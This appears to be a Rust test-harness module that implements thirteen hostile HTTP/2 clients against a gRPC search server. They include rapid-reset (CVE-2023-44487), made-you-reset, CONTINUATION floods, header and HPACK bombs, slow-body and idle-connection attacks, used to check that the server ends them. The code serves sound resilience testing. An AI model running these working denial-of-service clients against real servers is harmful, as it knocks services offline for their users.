//! What hostile clients do. Each acts on one connection until the server has ended it, or all its streams.

use std::{collections::HashSet, io, net::SocketAddr, ops::Range, pin::Pin, sync::LazyLock, time::Duration};

use nearby_proto::v1::{Position, SearchNearbyRequest};
use tokio::time::sleep;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, End, HEADERS, Hostile, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, head, literal,
};
use crate::h2_client::framed;

/// What a hostile client does, given a server and its number, which no client of another attack has: how the server ended it.
type Act = fn(SocketAddr, usize) -> Pin<Box<dyn Future<Output = io::Result<End>> + Send>>;

/// A sort of hostile client.
#[derive(Debug)]
pub struct Attack {
    /// What it is called.
    pub name: &'static str,
    /// How many connections do it at the same time.
    pub connections: usize,
    /// How long the server may bear it.
    pub limit: Duration,
    /// How long well-behaved callers are measured meanwhile.
    pub measured: Duration,
    /// Whether the server must end it within the limit; what only sits there may stay.
    pub ends: bool,
    pub(super) act: Act,
}

/// How many connections an attack has at the most.
pub(super) const MOST: usize = 10_000;

const fn attack(name: &'static str, connections: usize, limit_s: u64, act: Act) -> Attack {
    let measured = Duration::from_secs(5);
    Attack { name, connections, limit: Duration::from_secs(limit_s), measured, ends: true, act }
}

/// All of them.
pub static ATTACKS: [Attack; 13] = [
    attack("rapid-reset", 4, 10, |to, number| Box::pin(rapid_reset(to, number))),
    attack("paced-reset", 4, 10, |to, number| Box::pin(paced_reset(to, number))),
    attack("made-you-reset", 4, 10, |to, number| Box::pin(made_you_reset(to, number))),
    attack("continuation-flood", 4, 10, |to, number| Box::pin(continuation_flood(to, number))),
    attack("header-bomb", 4, 10, |to, number| Box::pin(header_bomb(to, number))),
    attack("hpack-bomb", 4, 10, |to, number| Box::pin(hpack_bomb(to, number))),
    attack("silent", 200, 7, |to, number| Box::pin(silent(to, number))),
    attack("half-preface", 200, 7, |to, number| Box::pin(half_preface(to, number))),
    attack("settings-flood", 4, 60, |to, number| {
        Box::pin(flood(to, number, frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])))
    }),
    attack("ping-flood", 4, 60, |to, number| Box::pin(flood(to, number, frame(PING, 0, 0, b"are you?")))),
    attack("zero-window", 4, 75, |to, number| Box::pin(zero_window(to, number))),
    attack("slow-body", 4, 75, |to, number| Box::pin(slow_body(to, number))),
    Attack {
        ends: false,
        measured: Duration::from_secs(20),
        ..attack("idle", MOST, 25, |to, number| Box::pin(idle(to, number)))
    },
];

const SEARCH: &str = "/nearby.v1.NearbyService/SearchNearby";

/// Frames that are written at once.
const AT_ONCE: u32 = 100;

/// Says things without end, and listens: ends when the server does.
async fn until_ended(hostile: Hostile, mut next: impl FnMut(u32) -> Vec<u8>) -> io::Result<End> {
    let Hostile { mut reads, mut writes } = hostile;
    let speak = async {
        for turn in 0.. {
            use tokio::io::AsyncWriteExt;
            if writes.write_all(&next(turn)).await.is_err() {
                // It may still say why.
                return sleep(Duration::from_secs(1)).await;
            }
        }
    };
    let listen = Hostile::listen(&mut reads, |_, _, _| false);
    tokio::select! {
        // The server has closed its ear.
        () = speak => Ok(End::Closed),
        ended = listen => ended,
    }
}

/// CVE-2023-44487: calls that are given up as soon as they are begun.
async fn rapid_reset(to: SocketAddr, number: usize) -> io::Result<End> {
    let hostile = Hostile::begin(to, number, &[]).await?;
    let block = head(SEARCH);
    until_ended(hostile, move |turn| given_up(&block, turn * AT_ONCE..(turn + 1) * AT_ONCE)).await
}

/// The same, but no more at once than any caller may give up, and more only once the server has seen those.
async fn paced_reset(to: SocketAddr, number: usize) -> io::Result<End> {
    let mut hostile = Hostile::begin(to, number, &[]).await?;
    let block = head(SEARCH);
    for turn in 0.. {
        let calls = given_up(&block, turn * AT_ONCE..(turn + 1) * AT_ONCE);
        if hostile.say(&[calls, frame(PING, 0, 0, b"seen it?")].concat()).await.is_err() {
            break;
        }
        let ended = Hostile::listen(&mut hostile.reads, |kind, flags, _| kind == PING && flags & ACK != 0);
        match ended.await? {
            End::Streams => {}
            ended => return Ok(ended),
        }
    }
    Ok(End::Closed)
}

fn given_up(block: &[u8], calls: Range<u32>) -> Vec<u8> {
    let streams = calls.map(|at| 2 * at + 1);
    let both = streams.map(|stream| {
        [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
            .concat()
    });
    both.collect::<Vec<_>>().concat()
}

/// CVE-2025-8671: calls that the server must give up by itself, as they break a rule.
async fn made_you_reset(to: SocketAddr, number: usize) -> io::Result<End> {
    let hostile = Hostile::begin(to, number, &[]).await?;
    let block = head(SEARCH);
    until_ended(hostile, move |turn| {
        let streams = (turn * AT_ONCE..(turn + 1) * AT_ONCE).map(|at| 2 * at + 1);
        // A window that grows beyond 2^31 - 1 is an error of its stream.
        let both = streams.map(|stream| {
            [
                frame(HEADERS, END_HEADERS, stream, &block),
                frame(WINDOW_UPDATE, 0, stream, &0x7FFF_FFFF_u32.to_be_bytes()),
            ]
            .concat()
        });
        both.collect::<Vec<_>>().concat()
    })
    .await
}

/// CVE-2024-27316: a head that never ends.
async fn continuation_flood(to: SocketAddr, number: usize) -> io::Result<End> {
    let hostile = Hostile::begin(to, number, &[]).await?;
    until_ended(hostile, |turn| match turn {
        0 => frame(HEADERS, 0, 1, &head(SEARCH)),
        _ => frame(CONTINUATION, 0, 1, &literal("x-more", &"m".repeat(1_000))),
    })
    .await
}

/// Heads of a megabyte each.
async fn header_bomb(to: SocketAddr, number: usize) -> io::Result<End> {
    let hostile = Hostile::begin(to, number, &[]).await?;
    until_ended(hostile, |turn| {
        let stream = 2 * turn + 1;
        let piece = frame(CONTINUATION, 0, stream, &BOMB);
        [
            frame(HEADERS, END_STREAM, stream, &head(SEARCH)),
            piece.repeat(64),
            frame(CONTINUATION, END_HEADERS, stream, &[]),
        ]
        .concat()
    })
    .await
}

/// A header of 16 kB, made once: the callers that are measured share the processor with those that throw it.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| literal("x-bomb", &"b".repeat(16_000)));

/// One large header that is kept, and named again and again by a byte each.
async fn hpack_bomb(to: SocketAddr, number: usize) -> io::Result<End> {
    let hostile = Hostile::begin(to, number, &[]).await?;
    until_ended(hostile, |turn| {
        let stream = 2 * turn + 1;
        let mut block = head(SEARCH);
        if turn == 0 {
            // With indexing; it is number 62 from then on.
            let mut kept = literal("x-bomb", &"b".repeat(4_000));
            kept[0] = 0x40;
            block.extend(kept);
        }
        block.extend([0x80 | 62; 12_000]);
        frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
    })
    .await
}

async fn silent(to: SocketAddr, number: usize) -> io::Result<End> {
    let mut hostile = Hostile::silent(to, number).await?;
    Hostile::listen(&mut hostile.reads, |_, _, _| false).await
}

async fn half_preface(to: SocketAddr, number: usize) -> io::Result<End> {
    let mut hostile = Hostile::silent(to, number).await?;
    hostile.say(b"PRI * HTTP/2.0\r\n").await?;
    Hostile::listen(&mut hostile.reads, |_, _, _| false).await
}

/// Says what must be answered, and never reads the answers.
async fn flood(to: SocketAddr, number: usize, one: Vec<u8>) -> io::Result<End> {
    use tokio::io::AsyncWriteExt;
    let mut hostile = Hostile::begin(to, number, &[]).await?;
    let many = one.repeat(1_000);
    while hostile.writes.write_all(&many).await.is_ok() {}
    Ok(End::Closed)
}

/// Streams that are ended, by frames that say so.
struct Streams(HashSet<u32>);

impl Streams {
    fn new(count: u32) -> Self {
        Self((0..count).map(|at| 2 * at + 1).collect())
    }

    /// Whether a frame is the last thing that was waited for.
    fn see(&mut self, kind: u8, flags: u8, stream: u32) -> bool {
        if kind == RST_STREAM || (matches!(kind, HEADERS | DATA) && flags & END_STREAM != 0) {
            self.0.remove(&stream);
        }
        self.0.is_empty()
    }
}

/// Asks for much, and takes nothing.
async fn zero_window(to: SocketAddr, number: usize) -> io::Result<End> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let mut hostile = Hostile::begin(to, number, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
    let origin = Position { latitude: 60.17, longitude: 24.94, coordinate_system: 1, accuracy_m: None };
    let search = framed(&SearchNearbyRequest { origin: Some(origin), page_size: 400, ..Default::default() });
    for at in 0..AT_ONCE {
        let stream = 2 * at + 1;
        hostile.say(&frame(HEADERS, END_HEADERS, stream, &head(SEARCH))).await?;
        hostile.say(&frame(DATA, END_STREAM, stream, &search)).await?;
    }
    let mut streams = Streams::new(AT_ONCE);
    Hostile::listen(&mut hostile.reads, |kind, flags, stream| streams.see(kind, flags, stream)).await
}

/// Requests that come a byte a second.
async fn slow_body(to: SocketAddr, number: usize) -> io::Result<End> {
    const STREAMS: u32 = 50;
    let mut hostile = Hostile::begin(to, number, &[]).await?;
    for at in 0..STREAMS {
        hostile.say(&frame(HEADERS, END_HEADERS, 2 * at + 1, &head(SEARCH))).await?;
    }
    let Hostile { mut reads, mut writes } = hostile;
    let trickle = async move {
        use tokio::io::AsyncWriteExt;
        for turn in 0_u32.. {
            // The length of a message that is never all there.
            let byte = if turn == 3 { 4 } else { 0 };
            let all: Vec<Vec<u8>> = (0..STREAMS).map(|at| frame(DATA, 0, 2 * at + 1, &[byte])).collect();
            if writes.write_all(&all.concat()).await.is_err() {
                break;
            }
            sleep(Duration::from_secs(1)).await;
        }
    };
    let mut streams = Streams::new(STREAMS);
    let ended = Hostile::listen(&mut reads, |kind, flags, stream| streams.see(kind, flags, stream));
    tokio::select! {
        () = trickle => Ok(End::Closed),
        ended = ended => ended,
    }
}

/// Begins well and says no more.
async fn idle(to: SocketAddr, number: usize) -> io::Result<End> {
    // Not all in one moment: a queue of connections is another matter.
    sleep(Duration::from_micros(200 * (number % MOST) as u64)).await;
    let mut hostile = Hostile::begin(to, number, &[]).await?;
    Hostile::listen(&mut hostile.reads, |_, _, _| false).await
}
